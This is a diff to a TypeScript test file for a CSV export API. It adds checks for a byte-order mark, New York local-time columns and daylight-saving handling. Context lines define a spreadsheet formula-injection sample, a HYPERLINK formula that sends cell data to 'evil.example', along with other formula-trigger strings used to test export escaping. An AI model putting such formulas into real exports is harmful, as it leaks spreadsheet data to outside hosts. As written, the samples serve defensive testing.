@@ -6,9 +6,10 @@ const formula = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 
 /** Parses CSV as in RFC 4180 with every cell quoted. */
 function readCsv(text: string): string[][] {
+  expect(text.slice(0, 2)).toBe('\ufeff"');
   expect(text.endsWith('"\r\n')).toBe(true);
   return text
-    .slice(1, -3)
+    .slice(2, -3)
     .split('"\r\n"')
     .map((line) => line.split('","').map((cell) => cell.replaceAll('""', '"')));
 }
@@ -42,7 +43,43 @@ test.for(dialects)('on %s an export holds what the filters let through', async (
   );
   const first = Object.fromEntries(header.map((name, index) => [name, lines[0]?.[index]]));
   expect(first).toMatchObject({ name: 'Ann 229', notes: 'one, "two"\nthree', seen_at: '' });
-  expect(Object.keys(items[0]).sort()).toEqual([...header].sort());
+  const local = header.filter((name) => name.endsWith('_new_york'));
+  expect(local).toEqual([
+    'created_at_new_york',
+    'seen_at_new_york',
+    'accepted_at_new_york',
+    'closed_at_new_york',
+  ]);
+  expect(header.filter((name) => !local.includes(name)).sort()).toEqual(
+    Object.keys(items[0]).sort(),
+  );
+});
+
+test('beside each time in UTC stands the one in New York, also when its clocks are set back', async () => {
+  const { book, call, database } = await startDesk();
+  const { reference } = (await book()).json();
+  await call('GET', `/api/desk/requests/${reference}`);
+  const times = {
+    created_at: '2026-11-01T05:30:00.000Z',
+    seen_at: '2026-11-01T06:30:00.999Z',
+    accepted_at: '2026-07-01T03:59:59.000Z',
+  };
+  await database.query.updateTable('submissions').set(times).execute();
+  await database.query.updateTable('request_index').set({ created_at: times.created_at }).execute();
+  const answer = await call('GET', '/api/desk/export');
+  expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const [header = [], line = []] = readCsv(answer.body);
+  const at = header.indexOf('created_at');
+  expect(header.slice(at, at + 2)).toEqual(['created_at', 'created_at_new_york']);
+  const read = Object.fromEntries(header.map((name, index) => [name, line[index]]));
+  expect(read).toMatchObject({
+    ...times,
+    created_at_new_york: '2026-11-01 01:30:00 EDT',
+    seen_at_new_york: '2026-11-01 01:30:00 EST',
+    accepted_at_new_york: '2026-06-30 23:59:59 EDT',
+    closed_at: '',
+    closed_at_new_york: '',
+  });
 });
 
 test.for([formula, '+1-201', '-2+3', '@SUM(A1)', ' =1+1', '\uff1d1+1', "'=1"])(
